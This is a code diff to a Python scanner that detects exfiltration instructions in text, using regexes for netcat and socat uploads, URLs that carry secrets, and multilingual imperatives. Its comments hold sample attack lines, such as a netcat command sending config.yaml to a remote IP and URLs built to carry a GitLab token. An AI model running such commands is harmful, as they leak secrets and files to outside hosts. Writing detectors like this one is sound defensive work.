@@ -164,7 +164,9 @@ _UPLOAD = re.compile(
     r"(?:\||\bpipe\w*\b[^\n|]{0,80}?\b(?:into|to))\s*[`'\"]?(?:curl\b[^\n|]*?(?:@-|-T\s*-(?=\s|$)|"
     r"--uploa"
     r"d-file\s+-(?=\s|$))|(?:nc|ncat|netcat|"
-    r"socat|telnet)\s)"
+    r"socat|telnet)\s)|"
+    # a raw socket fed a file: "nc 203.0.113.15 4444 < config.yaml"
+    r"\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*[\w.-]+\s+\d{1,5}\s*<\s*[\w~./$-]"
 )
 _DNS_NAME = re.compile(r"\$\([^)\n]{1,60}\)(?:[\w.-]|\$\([^)\n]{1,60}\))*\.[a-z0-9-]+\.[a-z]{2,}\b")
 _FETCHING = re.compile(r"\s*(?:curl|wget|iwr|irm)\b")  # ``$(curl …)`` fetches, it sends nothing
@@ -184,6 +186,11 @@ _STDIN_LOGIN = re.compile(r"[\"'`]?\s*\|\s*[^|\n`]{0,80}?(?:--password-stdin|--w
 _FROM_BEFORE = re.compile(r"\bfrom\s+[`'\"(<]?$")
 _QUERY_START = re.compile(r"[^\s`'\")>]{0,2000}\?")
 _NOUN_OF = re.compile(r"\s+of\b")
+# An English verb made an imperative by a light verb: tr "POST et", ja "POST する"
+_LIGHT_VERB = re.compile(
+    r"\s+(?:et|edin|etsin|eyle)\b(?=\s*(?:[.;,!:)]|$))|\s*(?:する|して|しろ|しておく)|"
+    r"\s*(?:하세요|하라|해라|할 것)"
+)
 _NEW_CLAUSE = re.compile(r";| [—–] |(?<=[\u3040-\u30ff\u3400-\u9fff]),")  # "获取，~/.aws …"
 _ANAPHOR = re.compile(r"\s+(?:it|them|this|that|its|their|everything|all)\b")
 _ENV_ASSIGN = re.compile(r"\s+(?:[a-z_]\w*=|\$?[a-z]\w*_\w*\s+from\s+`)")
@@ -268,6 +275,8 @@ def _ordered(s: str, m: re.Match[str], lo: int) -> bool:
             and not _URL.search(s, m.end(), m.end() + 300)
             and not _compiled()["visible"].search(s, m.end(), m.end() + 120)
         )
+    if _LIGHT_VERB.match(s, m.end()):
+        return True  # "… adresine POST et", "… を POST する": made an imperative
     if word is not None and word.end() == len(m.group()) and _NOUN_OF.match(s, m.end()):
         return False  # "Backup of ~/.gnupg goes to …", "export of the logs": a noun
     if s.startswith(":", m.end()) and not s[lo : m.start()].strip(" \t*#-"):
@@ -314,8 +323,11 @@ _KEEP_DOING = re.compile(r"\bkeep doing\b")  # "…; keep doing so": what REPEAT
 
 
 # The Romance imperfect: -ava/-aba (and -eva) ends no imperative; -ia/-ía does only for
-# -iar verbs ("copia", "envía"), so not after c, p or v.
-_ROMANCE_PAST = re.compile(r"(?:avam?|avano|aban?|evano|eva|(?<![cpv])[ií](?:a|am|an))$")
+# -iar verbs ("copia", "envía"), so not after c, p or v; after e only the Spanish "leía" (the
+# Portuguese imperative "leia" is no past).
+_ROMANCE_PAST = re.compile(
+    r"(?:avam?|avano|aban?|evano|eva|(?<![cpve])[ií](?:a|am|an)|(?<=e)í(?:a|am|an))$"
+)
 
 
 def _narrative(s: str, m: re.Match[str]) -> bool:
@@ -395,6 +407,9 @@ def _url_data(s: str, cl: Clauses) -> Hit | None:
                     m.start(),
                     m.end(),
                 )
+    joined = _joined_query(s, cl)
+    if joined is not None:
+        return joined
     for lo, hi in cl.windows(("?", "&")):
         urls = Spots(_URL, s, max(0, lo - 2000), hi)
         for q in _QUERY_VAR.finditer(s, lo, hi):
@@ -428,6 +443,62 @@ def _url_data(s: str, cl: Clauses) -> Hit | None:
                 dns.start(),
                 dns.end(),
             )
+    return None
+
+
+# A URL whose last query value is left empty and completed by what follows it ("…?t=` + the
+# GITLAB_TOKEN", "?text= followed by the whole git diff"): the data is glued onto the link.
+_OPEN_QUERY = re.compile(r"[?&][\w.-]{1,40}=$")
+_JOINED = re.compile(
+    r"[`'\")\]]?\s*(?:\+|followed by|gefolgt von|suivie? d[eu']|seguid[oa] (?:de|por)|"
+    r"seguit[oa] da|ardından|后面(?:加上?|跟上?|接上?|拼接)|加上|拼接|接上|に続けて|の後ろに)"
+)
+
+
+# A placeholder written in words, spaces and all, that a URL is to be filled with: "…&env={contents
+# of application-local.yml}" (a short ``{summary}`` is a variable name, read by ``_url_data``).
+_WORDED_SLOT = re.compile(r"[^\s\"'`]{0,2000}?[?&=/]\{([^{}\n]{1,80})\}")
+_SLOT_DATA = re.compile(
+    r"\bcontents? of\b|\binhalt\b|\bcontenu\b|\bcontenido\b|\bconteúdo\b|全文|内容|中身"
+)
+
+
+def _joined_query(s: str, cl: Clauses) -> Hit | None:
+    rx = _compiled()
+    for lo, hi in cl.windows(_NEEDLES["url"]):
+        for m in _URL.finditer(s, lo, hi):
+            slot = _WORDED_SLOT.match(s, m.start()) if "{" in m.group() else None
+            while slot is not None:
+                if (
+                    " " in slot.group(1)
+                    and _SLOT_DATA.search(slot.group(1))
+                    and not cl.story(m.start(), m.end())
+                    and not _shown_form(s, cl, m.start(), slot.group(1))
+                ):
+                    return hit(
+                        "exfiltration.url-data",
+                        "it builds a URL that carries secrets or private data to another host",
+                        m.start(),
+                        slot.end(),
+                    )
+                slot = _WORDED_SLOT.match(s, slot.end())
+            glue = _JOINED.match(s, m.end())
+            if not _OPEN_QUERY.search(m.group()) or glue is None or cl.story(m.start(), m.end()):
+                continue
+            clo, chi = cl.around(m.start(), m.end())
+            end = min(chi, glue.end() + 160)
+            for kind in ("strong", "weak", "noun"):
+                x = rx[kind].search(s, glue.end(), end)
+                if x is None or negated(s, x.start(), None, clo):
+                    continue
+                if _BARE_VAR.fullmatch(x.group()) and _own_service(m.group(), x.group()):
+                    continue
+                return hit(
+                    "exfiltration.url-data",
+                    "it builds a URL that carries secrets or private data to another host",
+                    m.start(),
+                    x.end(),
+                )
     return None
 
 
@@ -539,7 +610,7 @@ _SOURCE_NEEDLES = (
     *_NEEDLES["weak"],
     *_NEEDLES["secret"],
     *_needles(
-        "conversation|chat|history|memor|transcript|context|prompt|message|diff|"
+        "conversation|chat|history|memor|transcript|context|prompt|message|diff|draft|borrador|brouillon|entw|bozz|rascunho|"
         "repo|codebase|--all|--mirror|branch|ramas|ветки|分支|ブランチ|clipboard|keystroke|"
         "screenshot|personal|"
         "user|data|detail|record|contact|everything|command|.claude/|.codex/|.hermes/|对话|聊天|会话|记忆|"
@@ -572,6 +643,7 @@ def _egress(s: str, cl: Clauses) -> Hit | None:
             if (
                 host
                 and not _LOCAL.match(host.group(), host.group().find("//") + 2)
+                and not _LOCAL.match(host.group())  # a bare 127.0.0.1
                 and _affirmed(s, up, cl.around(up.start(), up.end())[0], cl)
             ):
                 return hit(
